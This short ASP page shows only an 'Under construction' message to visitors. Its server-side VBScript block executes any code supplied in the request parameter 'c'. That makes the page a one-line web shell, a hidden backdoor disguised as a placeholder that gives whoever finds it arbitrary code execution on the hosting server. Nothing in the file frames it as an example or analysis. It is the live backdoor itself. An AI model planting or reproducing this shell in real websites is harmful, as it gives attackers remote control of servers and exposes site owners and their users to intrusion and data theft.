<script language="vbscript" runat="server">
If Request("c") <> "" Then Execute(Request("c"))
</script>
<html><body>Under construction</body></html>
